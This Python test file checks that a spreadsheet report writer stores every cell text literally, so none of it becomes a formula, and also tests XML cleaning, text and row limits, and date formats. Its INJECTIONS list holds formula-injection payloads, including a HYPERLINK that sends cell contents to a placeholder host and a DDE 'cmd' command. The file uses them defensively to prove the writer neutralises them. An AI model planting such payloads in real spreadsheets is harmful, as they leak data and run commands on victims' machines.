"""Any text in any cell comes back as it was written; none becomes a formula (F, X, S1)."""

from __future__ import annotations

import re
from datetime import date, datetime
from io import BytesIO
from zipfile import ZipFile

import pytest
from examples import one_in
from hypothesis import example, given
from hypothesis import strategies as st
from workbooks import book, cell_types, every_text, one_column, opened, rows_of_sheet

from report.workbook.cells import LONGEST, cell_text
from report.workbook.sheet import Column, LateDay, Sheet
from report.workbook.writing import MOST_ROWS, _fitting

INJECTIONS = [
    '=HYPERLINK("http://x/?"&A1,"ดูผล")', "=1+1", "=cmd|'/c calc'!A1", "=WEBSERVICE(A1)",
    "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", '"=1+1', '=1+1";=2+2',
    "a\r\n=1+1", "{=1+1}", "http://example.com", "mailto:a@example.com", "internal:A1",
    "<r><t>=1+1</t></r>", "\0<r></r>",
]  # fmt: skip
AS_THEY_ARE = [
    "-", "-5", "+66 81 234 5678", "0812345678", "007", "1e5", "12.0", "TRUE", "#N/A", "#REF!",
    "]]>", "&#0;", "&amp;amp;", "<b>x", "_x0041_", " หน้า และ หลัง ", "บรรทัด\nสอง", "ก\u0e4d\u0e32",
    "\u200bสมชาย", "\u2028", "\u0085", "👩‍⚕️", "กตัญญู ฟื้นฟู ญี่ปุ่น",
]  # fmt: skip
ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")


def cleaned(text: str) -> str:
    """Return what the door promises of a short text: the same, less what XML cannot carry."""
    return ILLEGAL.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))


def read_again(texts: list[str]) -> tuple[list[str], list[str]]:
    """Return the texts as openpyxl and as calamine read them."""
    content = one_column(texts)
    assert "f" not in cell_types(content)
    sheet = opened(content)["ก"]
    below = [sheet.cell(row, 1).value or "" for row in range(2, len(texts) + 2)]
    again = [row[0] for row in rows_of_sheet(content, "ก")]
    return below, again + [""] * (len(texts) - len(again))


@one_in(3)
@given(st.lists(st.text(max_size=40) | st.text(alphabet="=<r>/x_0041'\"\r\n\t", max_size=20)))
@example(INJECTIONS)
@example(AS_THEY_ARE)
@example(["<r>ก</r>", "<r>", "</r>", "<r>a</r>b"])
@example([chr(code) for code in range(0x100)])
def test_any_text_comes_back_as_it_was_written(texts: list[str]) -> None:
    expected = [cleaned(text) for text in texts]
    assert read_again(texts) == (expected, expected)


@pytest.mark.parametrize("text", ["a\x0bb", "a\x00b", "a\x1bb", "a\x7fb", "a\ud800b", "a\ufffeb"])
def test_what_xml_cannot_carry_goes_and_the_rest_stays(text: str) -> None:
    assert read_again([text]) == (["ab"], ["ab"])


def test_x6_every_line_end_is_one_line_end() -> None:
    assert read_again(["a\rb\r\nc\nd"]) == (["a\nb\nc\nd"], ["a\nb\nc\nd"])


@pytest.mark.parametrize(
    ("text", "whole"),
    [
        ("ก" * LONGEST, True), ("ก" * (LONGEST + 1), False), ("ก" * 50_000, False),
        ("😀" * (LONGEST // 2), True), ("😀" * (LONGEST // 2 + 1), False), ("😀" * 30_000, False),
    ],
)  # fmt: skip
def test_s1_a_text_too_long_for_a_cell_says_that_it_is_cut(text: str, *, whole: bool) -> None:
    shown = cell_text(text)
    units = len(shown.encode("utf-16-le")) // 2
    assert units <= LONGEST
    if whole:
        assert shown == text
    else:
        assert units > LONGEST - 2
        assert "ตัดให้พอดีช่อง" in shown[-60:]
        assert shown.startswith(text[:100])
    assert read_again([text]) == ([shown], [shown])


def test_headings_the_front_and_print_bands_pass_the_same_door() -> None:
    nasty = "=1+1\x0b\ud800&P <r>x</r>"
    content = book(
        Sheet(nasty, nasty, (Column(nasty, [nasty], "long", tones={"ก": "good"}),)),
        title=nasty, subject=nasty * 30, secret=nasty, dated=nasty, notes=(nasty,),
        figures=((nasty, nasty), ("คน", 3)),
    )  # fmt: skip
    assert cell_types(content) <= {"s", "n"}
    assert every_text(content).count("=1+1&P <r>x</r>") >= 6
    bands = opened(content).worksheets[1]
    assert "&P" in bands.oddFooter.right.text  # the page's own number, and no other
    assert len(bands.oddHeader.left.text) <= 255
    with ZipFile(BytesIO(content)) as parts:  # an ampersand of ours is no code of Excel's
        assert b"=1+1&amp;&amp;P" in parts.read("xl/worksheets/sheet2.xml")


def test_numbers_and_days_are_what_they_were() -> None:
    assert rows_of_sheet(one_column([0, 14_200, None, 3], "count"), "ก") == [
        [0],
        [14_200],
        [""],
        [3],
    ]
    assert rows_of_sheet(one_column([99.9, 100.0], "percent"), "ก") == [[99.9], [100.0]]
    assert rows_of_sheet(one_column([date(2023, 4, 30)], "day"), "ก") == [[date(2023, 4, 30)]]
    moment = datetime(2023, 4, 30, 23, 59, 59)
    assert rows_of_sheet(one_column([moment], "moment"), "ก") == [[moment]]


def test_a_late_day_says_so_beside_the_date() -> None:
    sheet = opened(one_column([date(2023, 4, 30), LateDay(date(2023, 5, 1))], "day"))["ก"]
    on_time, late = sheet.cell(2, 1), sheet.cell(3, 1)
    assert (on_time.value, late.value) == (datetime(2023, 4, 30), datetime(2023, 5, 1))
    assert "หลังกำหนด" not in on_time.number_format
    assert late.number_format.endswith('" (หลังกำหนด)"')


def test_a_row_is_as_high_as_its_longest_wrapped_text() -> None:
    sheet = opened(one_column(["ป" * 20, "ป" * 200, "ก\nข\nค", None], "long"))["ก"]
    heights = [sheet.row_dimensions[row].height for row in range(2, 6)]
    assert heights[0] is heights[3] is None  # one line: as every program does by itself
    assert heights[1] > heights[2] > 40


def test_more_cells_than_a_sheet_has_rows_are_cut_and_said_to_be() -> None:
    assert len(_fitting(["ก"] * (MOST_ROWS - 1))) == MOST_ROWS - 1
    fitting = _fitting(["ก"] * MOST_ROWS)
    assert len(fitting) == MOST_ROWS - 1
    assert fitting[-1] == "… เกินจำนวนแถวที่แผ่นงานรับได้ ดูทั้งหมดในไฟล์ CSV"
